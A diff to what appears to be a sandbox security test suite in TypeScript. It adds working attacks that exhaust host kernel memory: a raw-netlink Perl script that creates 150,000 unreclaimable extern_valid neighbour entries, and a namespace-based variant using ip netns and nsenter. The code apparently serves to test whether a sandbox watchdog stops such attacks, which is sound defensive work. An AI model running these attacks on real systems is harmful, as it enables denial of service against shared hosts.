@@ -81,27 +81,45 @@ print "HIDDEN", chr(10);
 sleep 600;
 `;
 
-export const heldNeighbourAttacks: Attack[] = [
-  {
-    id: 'permanent-neighbours',
-    title: 'hold the host kernel memory of 150,000 permanent neighbour entries in a network namespace no process is in (ip netns add)',
+/**
+ * Perl, in the sandbox: COUNT IPv4 neighbour entries on interface IFINDEX, STALE, flagged
+ * extern_valid (NDA_FLAGS_EXT, NTF_EXT_EXT_VALIDATED: kernel 6.17+), one RTM_NEWNEIGH each over
+ * rtnetlink: `ip` cannot set the flag, nor print it.
+ */
+const EXTERN_VALID_PL = `use strict; use Socket qw(inet_aton);
+my ($ifindex, $count) = @ARGV;
+socket(my $nl, 16, 3, 0) or die "socket: $!";
+my ($added, $failed) = (0, 0);
+for my $i (1 .. $count) {
+  my $dst = inet_aton(sprintf('10.%d.%d.%d', 64 + int($i / 65536), int($i / 256) % 256, $i % 256));
+  my $attrs = pack('SS', 8, 1) . $dst . pack('SS', 10, 2) . pack('C6', 2, 0, 0, 0, 0, 1) . "\\0\\0" . pack('SSL', 8, 15, 4);
+  my $msg = pack('LSSLL', 28 + length($attrs), 28, 0x605, $i, 0) . pack('CCSlSCC', 2, 0, 0, $ifindex, 0x04, 0, 0) . $attrs;
+  send($nl, $msg, 0, pack('SSLL', 16, 0, 0, 0)) or die "send: $!";
+  recv($nl, my $ack, 65536, 0);
+  (unpack('LSSLLl', $ack))[5] ? $failed++ : $added++;
+}
+print "ADDED $added FAILED $failed", chr(10);
+`;
+
+/**
+ * An attack holding entries that show in the host's ARP count: in a learner of its own, `setup`
+ * (commands joined by &&), then `add` typed into the terminal; held if the sandbox still runs after
+ * HOLD_SECONDS with more than 50,000 entries above the start, blocked only by the watchdog's end.
+ */
+function heldArpEntriesAttack({ id, title, setup, add, cleanup }: { id: string; title: string; setup: string[]; add: string; cleanup: string }): Attack {
+  return {
+    id,
+    title,
     async run(context) {
       const attacker = await ownAttacker(context);
       const before = hostArpEntries();
       let peak = before;
       const watch = setInterval(() => (peak = Math.max(peak, hostArpEntries())), 200);
       try {
-        const setup = await attacker.terminal.run(
-          [
-            // `ip -n` remounts /sys, which the sandbox may not: nsenter enters the bind-mounted namespace.
-            'ip netns add dyhold && nsenter --net=/run/netns/dyhold sh -c "ip link add dh0 type veth peer name dh1 && ip link set dh0 up"',
-            batchFiles(150_000, 'neigh add 10.%d.%d.%d lladdr 02:00:00:00:00:01 nud permanent dev dh0'),
-            'echo HELD-SETUP-OK',
-          ].join(' && '),
-        );
-        if (!/HELD-SETUP-OK/.test(setup.output)) throw new Error(`the attack could not set up: ${setup.output.replace(/\s+/g, ' ').slice(-200)}`);
+        const prepared = await attacker.terminal.run([...setup, 'echo HELD-SETUP-OK'].join(' && '));
+        if (!/HELD-SETUP-OK/.test(prepared.output)) throw new Error(`the attack could not set up: ${prepared.output.replace(/\s+/g, ' ').slice(-200)}`);
         const started = Date.now();
-        attacker.terminal.learner.type('for f in /tmp/held.*; do nsenter --net=/run/netns/dyhold ip -batch $f >/dev/null 2>&1; done; echo HELD-$((6*7))-ADDED\r');
+        attacker.terminal.learner.type(`${add}; echo HELD-$((6*7))-ADDED\r`);
         let endedAfter: string | undefined;
         while (Date.now() - started < HOLD_SECONDS * 1000) {
           if (!attacker.alive()) {
@@ -125,13 +143,34 @@ export const heldNeighbourAttacks: Attack[] = [
         };
       } finally {
         clearInterval(watch);
-        if (attacker.alive()) await attacker.terminal.run('ip netns del dyhold; rm -f /tmp/held.*', 60_000).catch(() => undefined);
+        if (attacker.alive()) await attacker.terminal.run(cleanup, 60_000).catch(() => undefined);
         attacker.terminal.close();
         const session = context.engine.sessions.get(attacker.sessionId);
         if (session) await context.engine.sessions.destroy(session, 'ended');
       }
     },
-  },
+  };
+}
+
+export const heldNeighbourAttacks: Attack[] = [
+  heldArpEntriesAttack({
+    id: 'permanent-neighbours',
+    title: 'hold the host kernel memory of 150,000 permanent neighbour entries in a network namespace no process is in (ip netns add)',
+    // `ip -n` remounts /sys, which the sandbox may not: nsenter enters the bind-mounted namespace.
+    setup: [
+      'ip netns add dyhold && nsenter --net=/run/netns/dyhold sh -c "ip link add dh0 type veth peer name dh1 && ip link set dh0 up"',
+      batchFiles(150_000, 'neigh add 10.%d.%d.%d lladdr 02:00:00:00:00:01 nud permanent dev dh0'),
+    ],
+    add: 'for f in /tmp/held.*; do nsenter --net=/run/netns/dyhold ip -batch $f >/dev/null 2>&1; done',
+    cleanup: 'ip netns del dyhold; rm -f /tmp/held.*',
+  }),
+  heldArpEntriesAttack({
+    id: 'extern-valid-neighbours',
+    title: "hold 150,000 neighbour entries flagged extern_valid over raw netlink (never reclaimed; Debian 12's ip shows them as plain STALE)",
+    setup: ['ip link add dv0 type veth peer name dv1', 'ip link set dv0 up', `cat > /tmp/extvalid.pl <<'PLEOF'\n${EXTERN_VALID_PL}PLEOF\ntrue`],
+    add: 'perl /tmp/extvalid.pl $(cat /sys/class/net/dv0/ifindex) 150000',
+    cleanup: 'ip link del dv0; rm -f /tmp/extvalid.pl',
+  }),
   {
     id: 'socket-held-neighbours',
     title: `hold ${HIDDEN_NAMESPACES * ENTRIES_PER_HIDDEN} permanent neighbour entries in ${HIDDEN_NAMESPACES} network namespaces kept only by sockets, each below the limit`,
